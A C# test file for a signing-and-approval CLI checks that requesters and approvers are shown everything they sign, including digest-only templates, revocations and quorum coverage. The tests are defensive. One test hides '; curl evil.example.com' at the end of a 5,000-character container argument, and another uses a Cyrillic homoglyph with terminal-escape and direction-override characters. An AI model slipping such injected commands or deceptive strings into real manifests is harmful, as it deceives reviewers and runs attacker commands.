using System.Text;
using System.Text.Json.Nodes;
using Governance.Gates.Sigstore;

namespace Governance.Gates.Tests.Cli;

/// <summary>Nobody signs what they could not have read: <c>gates request</c> and <c>gates approve</c> show whole what a signature is over.</summary>
public sealed class ShownBeforeSignedTests : IAsyncLifetime
{
    private ApprovalBench firm = null!;

    public async ValueTask InitializeAsync() => firm = await ApprovalBench.StartAsync();

    public ValueTask DisposeAsync() => firm.DisposeAsync();

    [Fact]
    public async Task What_stands_at_the_end_of_a_long_template_is_shown_to_requester_and_approver()
    {
        var argument = new string('a', 5_000) + "; curl evil.example.com";
        var manifest = firm.Bench.Folder.Write("deploy.yaml", Manifests.Of("apps/v1", "Deployment", firm.Image).Replace("name: main,", $"name: main, args: [\"{argument}\"],", StringComparison.Ordinal));
        var asked = await firm.GatesAsync("request", firm.Image, "--action", "deploy", "--environment", "production", "--template", manifest, "--policy", firm.PolicyFile, "--key", firm.Key("ann"), "--yes");
        Assert.Equal(0, asked.ExitCode);
        Assert.Contains(argument, asked.Error, StringComparison.Ordinal);
        Assert.Contains(argument, (await firm.AnswerAsync("ben")).Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_looks_like_something_else_is_shown_as_what_it_is()
    {
        // A Cyrillic letter, an escape of the terminal, and a character that turns the direction of writing.
        var parameters = firm.Bench.Folder.Write("change.json", """{ "to": "\u0430dmin\u001b[2K\u202e" }""");
        var kept = firm.Bench.Folder.PathOf("key-rotation.approvals.jsonl");
        var asked = await firm.GatesAsync("request", "--act", "key-rotation", "--parameters", parameters, "--out", kept, "--policy", firm.PolicyFile, "--key", firm.Key("ann"), "--yes");
        Assert.Contains(@"\u0430dmin\u001B[2K\u202E", asked.Error, StringComparison.Ordinal);
        Assert.Contains(@"\u0430dmin\u001B[2K\u202E", (await firm.AnswerAsync(kept, "ben", [])).Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Every_field_of_a_request_is_shown_to_who_answers_it()
    {
        await AskElsewhereAsync(statement =>
        {
            statement["predicate"]!["checks"] = JsonNode.Parse("""[{ "name": "limits", "result": "waived by nobody" }]""");
            statement["predicate"]!["parameters"] = JsonNode.Parse("""{ "max": "20000" }""");
            statement["predicate"]!["window"] = JsonNode.Parse("""{ "notAfter": "2999-01-01T00:00:00Z" }""");
            statement["predicate"]!["policy"]!["inputs"] = JsonNode.Parse($$"""{ "revocations": { "digest": "{{firm.Digest}}", "time": "2026-01-01T00:00:00Z" } }""");
        });
        var shown = ApprovalBench.OnOneLine((await firm.AnswerAsync("ben")).Error);
        foreach (var said in (string[])["\"result\":\"waived by nobody\"", "\"max\":\"20000\"", "\"notAfter\":\"2999-01-01T00:00:00Z\"", "\"revocations\":{\"digest\":"])
        {
            Assert.Contains(said, shown, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task Every_field_of_an_answer_that_was_signed_elsewhere_is_shown_also_those_that_no_gate_knows()
    {
        await firm.RequestAsync();
        var payload = firm.Bench.Folder.PathOf("payload");
        Assert.Equal(0, (await firm.GatesAsync("approve", firm.Image, "--policy", firm.PolicyFile, "--signer", "ben", "--payload", payload)).ExitCode);
        var statement = JsonNode.Parse(await File.ReadAllTextAsync(payload + ".json", TestContext.Current.CancellationToken))!;
        statement["predicate"]!["waives"] = new JsonArray("signed");
        statement["predicate"]!["approver"]!["custody"] = "a drawer";
        statement["predicate"]!["later"] = "a field of a later version";
        var attached = await firm.GatesAsync("approve", firm.Image, "--policy", firm.PolicyFile, "--signature", SignElsewhere("ben", statement), "--yes");
        Assert.True(attached.ExitCode == 0, attached.Error);
        foreach (var said in (string[])["\"waives\":[\"signed\"]", "\"custody\":\"a drawer\"", "\"later\":\"a field of a later version\"", "\"subject\":[{\"name\":"])
        {
            Assert.Contains(said, ApprovalBench.OnOneLine(attached.Error), StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task A_template_that_nobody_can_look_at_is_neither_asked_for_nor_approved()
    {
        var hidden = JsonNode.Parse($$"""{ "kind": "template", "name": "Deployment/web", "digest": "sha256:{{new string('a', 64)}}" }""");
        var file = await PrintAsync();
        file["predicate"]!["covers"]!.AsArray().Add(hidden);
        var refused = await firm.GatesAsync("request", firm.Image, "--policy", firm.PolicyFile, "--signature", SignElsewhere("ann", file), "--yes");
        Assert.Equal(2, refused.ExitCode);
        Assert.Contains("names template Deployment/web by its digest alone", refused.Error, StringComparison.Ordinal);

        var next = firm.Bench.Folder.Write("next.yaml", "the next version\n");
        var kept = next + ".approvals.jsonl";
        Assert.Equal(0, (await firm.GatesAsync("request", next, "--action", "deploy", "--policy", firm.PolicyFile, "--signer", "ann", "--payload", firm.Bench.Folder.PathOf("p"))).ExitCode);
        var statement = JsonNode.Parse(await File.ReadAllTextAsync(firm.Bench.Folder.PathOf("p.json"), TestContext.Current.CancellationToken))!;
        statement["predicate"]!["covers"]!.AsArray().Add(hidden!.DeepClone());
        File.Copy(SignElsewhere("ann", statement), kept);
        var answer = await firm.AnswerAsync(next, "ben", []);
        Assert.Equal(2, answer.ExitCode);
        Assert.Contains("so that nobody can see what would be approved", answer.Error, StringComparison.Ordinal);
        Assert.Equal(0, (await firm.AnswerAsync(next, "ben", ["--reject"])).ExitCode);
    }

    [Fact]
    public async Task A_request_in_a_file_of_acts_that_names_no_act_is_answered_with_a_reason()
    {
        var next = firm.Bench.Folder.Write("next.yaml", "the next version\n");
        Assert.Equal(0, (await firm.GatesAsync("request", next, "--action", "deploy", "--policy", firm.PolicyFile, "--key", firm.Key("ann"), "--yes")).ExitCode);
        File.Delete(next);
        var answer = await firm.AnswerAsync(next + ".approvals.jsonl", "ben", []);
        Assert.Equal(2, answer.ExitCode);
        Assert.Contains("names no act", answer.Error, StringComparison.Ordinal);
    }

    public static TheoryData<string, string> Revoked => new()
    {
        { "--approval ID", "was revoked" },
        { "--person ben", "ben" },
        { "--artifact IMAGE", "was revoked" },
    };

    [Theory, MemberData(nameof(Revoked))]
    public async Task Who_approves_is_told_of_what_was_revoked(string what, string why)
    {
        firm.Policy("revocations: { from: revocations.json, maxAge: 1h, by: [ann] }");
        var id = await firm.RequestAsync();
        var revoked = await firm.GatesAsync(["revoke", .. what.Replace("ID", id, StringComparison.Ordinal).Replace("IMAGE", firm.Digest.ToString(), StringComparison.Ordinal).Split(' '), "--policy", firm.PolicyFile, "--key", firm.Key("ann")]);
        Assert.True(revoked.ExitCode == 0, revoked.Error);
        var refused = await firm.AnswerAsync("ben");
        Assert.Equal(2, refused.ExitCode);
        Assert.Contains(why, refused.Error, StringComparison.Ordinal);
        Assert.Empty((await firm.RequestNowAsync(1)).GetProperty("answers").EnumerateArray());
    }

    [Fact]
    public async Task Which_list_of_revocations_an_approver_saw_is_in_the_approval_and_that_none_could_be_read_is_shown()
    {
        firm.Policy("revocations: { from: revocations.json, maxAge: 1h, by: [ann] }");
        await firm.RequestAsync();
        Assert.Contains("  unread: ", (await firm.AnswerAsync("ben")).Error, StringComparison.Ordinal);
        Assert.Equal(0, (await firm.GatesAsync("revoke", "--policy", firm.PolicyFile, "--key", firm.Key("ann"))).ExitCode);
        var answered = await firm.AnswerAsync("cem");
        Assert.DoesNotContain("  unread: ", answered.Error, StringComparison.Ordinal);
        Assert.Contains("\"revocationVersion\":1", ApprovalBench.OnOneLine(answered.Error), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_quorum_for_less_than_the_policy_asks_for_does_not_stand()
    {
        firm.Policy(covers: "[artifact, template]");
        await firm.RequestAsync();
        await firm.ApproveAsync("ben");
        await firm.ApproveAsync("cem");
        var request = await firm.RequestNowAsync(1);
        Assert.False(request.GetProperty("stands").GetBoolean());
        Assert.Contains("the pod template, which ", request.GetProperty("inTheWay")[0].GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Whether_exactly_this_template_was_approved_is_told()
    {
        firm.Policy(covers: "[artifact, template]");
        var manifest = firm.Bench.Folder.Write("deploy.yaml", Manifests.Of("apps/v1", "Deployment", firm.Image));
        await firm.RequestAsync("--template", manifest);
        await firm.ApproveAsync("ben");
        await firm.ApproveAsync("cem");
        Assert.True((await firm.RequestNowAsync(0, "--template", manifest)).GetProperty("stands").GetBoolean());
        var changed = firm.Bench.Folder.Write("changed.yaml", Manifests.Of("apps/v1", "Deployment", firm.Image).Replace("name: main,", "name: main, command: [sh],", StringComparison.Ordinal));
        Assert.Contains("it does not cover the pod template: containers[main].command", (await firm.RequestNowAsync(1, "--template", changed)).GetProperty("inTheWay")[0].GetString(), StringComparison.Ordinal);
    }

    private async Task<JsonNode> PrintAsync()
    {
        var payload = firm.Bench.Folder.PathOf("payload");
        var printed = await firm.GatesAsync("request", firm.Image, "--action", "deploy", "--environment", "production", "--policy", firm.PolicyFile, "--signer", "ann", "--payload", payload);
        Assert.True(printed.ExitCode == 0, printed.Error);
        return JsonNode.Parse(await File.ReadAllTextAsync(payload + ".json", TestContext.Current.CancellationToken))!;
    }

    private async Task AskElsewhereAsync(Action<JsonNode> change)
    {
        var statement = await PrintAsync();
        change(statement);
        var attached = await firm.GatesAsync("request", firm.Image, "--policy", firm.PolicyFile, "--signature", SignElsewhere("ann", statement), "--yes");
        Assert.True(attached.ExitCode == 0, attached.Error);
    }

    // A DSSE envelope in a file, as other tools make it.
    private string SignElsewhere(string key, JsonNode statement)
    {
        var bytes = Encoding.UTF8.GetBytes(statement.ToJsonString());
        var signature = firm.Sign(key, Dsse.SignedBytes(bytes));
        return firm.Bench.Folder.Write($"{Guid.NewGuid():N}.dsse", $$"""{"payloadType":"application/vnd.in-toto+json","payload":"{{Convert.ToBase64String(bytes)}}","signatures":[{"sig":"{{Convert.ToBase64String(signature)}}"}]}""");
    }
}
